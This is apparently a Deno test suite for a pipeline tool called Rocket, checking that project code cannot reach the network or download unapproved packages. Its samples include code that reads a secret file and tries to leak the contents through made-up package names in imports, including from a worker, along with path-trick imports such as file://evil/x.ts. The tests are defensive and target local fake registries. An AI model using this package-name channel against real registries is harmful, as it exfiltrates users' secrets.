import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { join } from "node:path";
import { stringify } from "yaml";
import { denoFolder } from "../../src/base/machine/deno_folder.ts";
import { type Ended, inFolder, rocket } from "../support/command_line.ts";
import { digitsPipeline, pluginApi } from "../support/pipelines.ts";
import { FakeNpm } from "./fake_npm.ts";
import { FakeRegistry, fromRegistry } from "./fake_registry.ts";

/** A project whose packages in the scope `@toy` come from a registry on this machine. */
interface ToyProject {
  /** Its folder. */
  readonly folder: string;
  readonly npm: FakeNpm;
  /** The registry for `jsr:`, which only receives requests for the standard library. */
  readonly jsr: FakeRegistry;
  /** Writes files, by name. */
  write(files: Readonly<Record<string, string>>): Promise<void>;
  rocket(...args: string[]): Promise<Ended>;
}

async function withToys(
  packages: Readonly<Record<string, string>>,
  test: (project: ToyProject) => Promise<void>,
): Promise<void> {
  await using npm = new FakeNpm(packages);
  await using jsr = new FakeRegistry();
  try {
    await inFolder(async (outer) => {
      const home = join(outer, "home"), folder = join(outer, "project");
      for (const one of [home, folder]) await Deno.mkdir(one);
      await Deno.writeTextFile(join(home, ".npmrc"), `@toy:registry=${npm.url}\n`);
      // The records of this registry are removed with it.
      const env = { HOME: home, JSR_URL: jsr.url, ROCKET_CACHE: join(outer, "rocket") };
      await test({
        ...{ folder, npm, jsr },
        async write(files) {
          for (const [name, text] of Object.entries(files)) {
            await Deno.writeTextFile(join(folder, name), text);
          }
        },
        rocket: (...args) => rocket(args, { cwd: folder, env }),
      });
    });
  } finally {
    // In Deno's notation.
    const [npmPort, jsrPort] = [npm.url, jsr.url].map((url) => new URL(url).port);
    const folders = [join("npm", npmPort!), join("remote", "http", `127.0.0.1_PORT${jsrPort}`)];
    for (const one of folders) {
      await Deno.remove(join(denoFolder(), one), { recursive: true }).catch(() => {});
    }
  }
}

const metric = (before: string, summary = `"M."`, started = "") => `
import { defineMetric, z } from ${JSON.stringify(pluginApi)};
${before}
export default defineMetric({
  name: "m", summary: ${summary}, per: "net", options: z.object({}),
  create: () => ({ start() { ${started} return { add() {}, value: () => 0 }; } }),
});
`;

const pipelineOf = (use: string) =>
  stringify(digitsPipeline({ metrics: [{ use }], train: { epochs: 1, batch: 512 }, outputs: [] }));

/** Code that sends data to a registry in the name of a package. */
const telling = `
const secret = Deno.readTextFileSync(new URL("secret.txt", import.meta.url)).trim();
const told = [];
for (const name of ["npm:@toy/" + secret, "jsr:@toy/" + secret, "npm:@toy/" + secret + "@1/" + secret]) {
  told.push(await import(name).then(() => "sent", (error) => error.message));
}
// A thread could import them as well.
try { new Worker("data:application/javascript,import('npm:@toy/" + secret + "')", { type: "module" }); }
catch (error) { told.push(error.message); }
`;

Deno.test("code of a project cannot send data to a registry in made-up names of packages", async () => {
  await withToys({}, async ({ npm, jsr, write, rocket }) => {
    await write({
      "secret.txt": "what-i-read",
      "tells.ts": metric(telling, `told.map((one) => one.replaceAll(/\\s+/g, " ")).join("; ")`),
      "p.yaml": pipelineOf("./tells.ts"),
      "p.ts": `${telling}\nexport default { extends: "./p.yaml", name: "p" };`,
    });
    const shown = await rocket("show", "./tells.ts");
    assertEquals(shown.code, 0, shown.stderr);
    const text = shown.stdout.replaceAll(/\s+/g, " ");
    assertEquals(text.match(/--cached-only is specified/g)?.length, 2, text);
    assertEquals(text.match(/Requires import access/g)?.length, 1, text);
    assertStringIncludes(text, "code of a pipeline cannot start threads");
    // The pipeline is evaluated, and evaluated again in the run, which trains.
    const ran = await rocket("p.ts", "--engine", "wasm", "--out", "run");
    assertEquals(ran.code, 0, ran.stderr);
    assertMatch(ran.stderr, /^permissions: .* no network/m);
    assertEquals([npm.requests, jsr.otherRequests], [[], 0]);
  });
});

Deno.test("packages that modules import with literal names are downloaded before a run, and later runs need no network", async () => {
  const packages = {
    "@toy/static": "export default 'static';",
    "@toy/dynamic": "export default 'dynamic';",
    "@toy/optional": undefined!,
    "@toy/stage": metric("").replace(
      /^import .*$/m,
      (line) => line.replace(/"[^"]+"/, '"npm:zod"'),
    ),
  };
  await withToys(packages, async ({ npm, write, rocket }) => {
    await write({
      "stage.ts": metric(
        `import own from "./own.ts";
const parts = [own, (await import("npm:@toy/dynamic@^1.0.0")).default];
try { await import("npm:@toy/optional@1"); } catch { parts.push("without"); }`,
        `parts.join(" ")`,
      ),
      "own.ts": `import one from "npm:@toy/static@1.0.0"; export default one;`,
    });
    const first = await rocket("show", "./stage.ts");
    assertEquals(first.code, 0, first.stderr);
    assertStringIncludes(first.stdout, "static dynamic without");
    assertStringIncludes(
      first.stderr,
      "downloading npm:@toy/dynamic@^1.0.0 and npm:@toy/optional@1 and npm:@toy/static@1.0.0, which is only needed once …\n",
    );
    assertStringIncludes(first.stderr, "npm:@toy/optional@1 cannot be downloaded: ");
    npm.isThere = false;
    const again = await rocket("show", "./stage.ts");
    assertEquals([again.code, again.stdout], [0, first.stdout]);
  });
});

Deno.test("a plugin from a registry is downloaded if it is allowed, and otherwise not requested", async () => {
  await withToys({ "@toy/stage": "throw new Error('here');" }, async ({ npm, jsr, rocket }) => {
    for (const [use, words] of [["npm:@toy/stage", "Error: here"], ["jsr:@toy/words", "word"]]) {
      const refused = await rocket("show", use!);
      assertEquals(refused.code, 2);
      assertStringIncludes(refused.stderr, `${use} is code from outside the project's folder`);
      assertEquals([npm.requests, jsr.otherRequests], [[], 0]);
      const allowed = await rocket("show", use!, "--allow-plugin", use!);
      assertEquals(allowed.code, 2);
      assertStringIncludes(allowed.stderr, `downloading ${use}, which is only needed once …\n`);
      assertStringIncludes(allowed.stderr, words!);
      npm.requests.length = 0;
    }
  });
});

Deno.test("a server of a stage that is not allowed receives no request, also for imports of the project", async () => {
  const requests: string[] = [];
  await using server = Deno.serve({ port: 0, onListen() {} }, ({ url }) => {
    requests.push(url);
    return new Response('console.log("code of the server"); export default 1;', {
      headers: { "content-type": "application/javascript" },
    });
  });
  const stage = `http://127.0.0.1:${server.addr.port}/stage.js`;
  await withToys({}, async ({ write, rocket }) => {
    const imports = `import ${JSON.stringify(stage.replace("stage", "payload"))};`;
    await write({
      "m.ts": metric(imports),
      "p.yaml": stringify(digitsPipeline({ metrics: [{ use: "./m.ts" }, { use: stage }] })),
      "base.yaml": stringify(digitsPipeline({ metrics: ["accuracy"] })),
      // It names the server only when its permissions are determined.
      "p.ts": `
const { state } = await Deno.permissions.query({ name: "import", host: ${
        JSON.stringify(`127.0.0.1:${server.addr.port}`)
      } });
const metrics = state === "granted" ? ["./m.ts"] : ["./m.ts", { use: ${JSON.stringify(stage)} }];
export default { extends: "./base.yaml", metrics };`,
    });
    for (const file of ["p.yaml", "p.ts"]) {
      const { code, stdout, stderr } = await rocket("check", file, "--engine", "wasm");
      assert(code !== 0, stderr);
      assert(!/downloading|code of the server/.test(stdout + stderr), stdout + stderr);
    }
    const shown = await rocket("show", stage);
    assertEquals(shown.code, 2);
    assertStringIncludes(shown.stderr, "is code from outside the project's folder");
    assertEquals(requests, []);
    // It is the server that is allowed, with each of its modules.
    const allowed = await rocket("check", "p.yaml", "--engine", "wasm", "--allow-plugin", stage);
    assertStringIncludes(allowed.stdout, "code of the server");
  });
});

Deno.test("files that a stage writes to a run folder do not affect the downloads of the next run", async () => {
  const packages = { "@toy/yes": "", "@toy/no": "" };
  const writes = `Deno.mkdirSync(new URL("runs", import.meta.url), { recursive: true });
  Deno.writeTextFileSync(
    new URL("runs/bit.ts", import.meta.url), 'import "npm:@toy/yes"; import "../mine.ts";',
  );`;
  await withToys(packages, async ({ folder, npm, write, rocket }) => {
    await write({
      "writes.ts": metric(`await import("./runs/bit.ts").catch(() => {});`, undefined, writes),
      "mine.ts": `import "npm:@toy/no";`,
      "p.yaml": pipelineOf("./writes.ts"),
    });
    const ran = await rocket("p.yaml", "--engine", "wasm", "--out", "runs");
    assertEquals(ran.code, 0, ran.stderr);
    assert(Deno.readTextFileSync(join(folder, "runs", "bit.ts")).includes("yes"));
    await Deno.remove(join(folder, "runs", "pipeline.json"));
    // The same module by another path, and addresses that are not of files.
    if (Deno.build.os === "linux") {
      const others = [
        "/proc/self/cwd/runs/bit.ts",
        "./runs%2Fbit.ts",
        "file://evil/x.ts",
        "./%ff.ts",
      ];
      const imports = others.map((one) => `await import(${JSON.stringify(one)}).catch(() => {});`);
      await write({ "others.ts": metric(imports.join("\n")) });
      const shown = await rocket("show", "./others.ts");
      assertEquals([shown.code, npm.requests], [0, []], shown.stderr);
    }
    const onlyTheLine = /^permissions: [^\n]*\n$/;
    const shown = await rocket("show", "./writes.ts");
    assertEquals(shown.code, 0, shown.stderr);
    assertMatch(shown.stderr, onlyTheLine);
    // A list of allowed code that a stage may have written does not count either.
    const allowPlugins = ["npm:@toy/yes"];
    await write({
      "runs/deno.json": JSON.stringify({ rocket: { allowPlugins } }),
      "runs/p.yaml": "extends: ../p.yaml\nmetrics: [npm:@toy/yes]\n",
    });
    const listed = await rocket("check", "runs/p.yaml", "--engine", "wasm");
    assertEquals(listed.code, 2);
    assertMatch(listed.stderr, /^npm:@toy\/yes is not downloaded: only \S+deno\.json allows it, /m);
    assertEquals(npm.requests, []);
    // If written folders cannot be stored, nothing is downloaded for modules of the project.
    const memory = join(folder, "..", "rocket", "written");
    await Deno.remove(memory, { recursive: true });
    await Deno.writeTextFile(memory, "");
    const without = await rocket("show", "./writes.ts");
    assertEquals(without.code, 0, without.stderr);
    assertMatch(without.stderr, onlyTheLine);
    assertEquals(npm.requests, []);
  });
});

Deno.test("Rocket's own packages are downloaded once before a run, and nothing else is requested", async () => {
  await inFolder(async (folder) => {
    // Deno's downloads are in a new folder, and there are no records of them yet.
    await Deno.mkdir(join(folder, "deno"));
    await Deno.symlink(join(denoFolder(), "npm"), join(folder, "deno", "npm"));
    await using npm = new FakeNpm();
    await using jsr = new FakeRegistry();
    npm.isThere = false;
    const env = {
      DENO_DIR: join(folder, "deno"),
      ROCKET_CACHE: join(folder, "rocket"),
      JSR_URL: jsr.url,
    };
    const there = await rocket(["show", "accuracy"], { cwd: folder, env });
    assertEquals([there.code, there.stderr], [0, ""]);
    assertEquals([...Deno.readDirSync(join(folder, "rocket", "fetched"))].length, 1);
    const missing = await rocket(["show", "accuracy"], {
      cwd: folder,
      env: { ...env, NPM_CONFIG_REGISTRY: npm.url },
    });
    assertEquals([missing.code, missing.stdout], [1, ""]);
    assertMatch(
      missing.stderr,
      /^downloading npm packages, which is only needed once …\nerror: packages that Rocket needs cannot be downloaded: .*\nhint: run this once /,
    );
    assert(npm.requests.every((path) => !path.includes("duckdb")), npm.requests.join());
    assertEquals(jsr.otherRequests, 0);
  });
});

Deno.test("a run uses cached modules of the JSR registry but cannot reach the registry", async () => {
  await withToys({}, async ({ jsr, write, rocket }) => {
    jsr.hasStd = true;
    const first = await rocket("show", "accuracy");
    assertEquals(first.code, 0, first.stderr);
    assert(jsr.requests > 0);
    assertStringIncludes(first.stderr, fromRegistry);
    jsr.requests = 0;
    await write({
      "tells.ts": metric(`
const told = [];
for (const name of ["jsr:@toy/secret", "${jsr.url}@toy/secret", "jsr:@std/cli@1/secret"]) {
  await import(name).then(() => told.push(name), () => {});
}
console.log("told", told.length);
`),
      "p.yaml": pipelineOf("./tells.ts"),
    });
    const { code, stdout, stderr } = await rocket("check", "p.yaml", "--engine", "wasm");
    assertEquals(code, 0, stderr);
    assertStringIncludes(stdout, "told 0");
    assertStringIncludes(stderr, fromRegistry);
    assertEquals(jsr.requests, 0);
  });
});
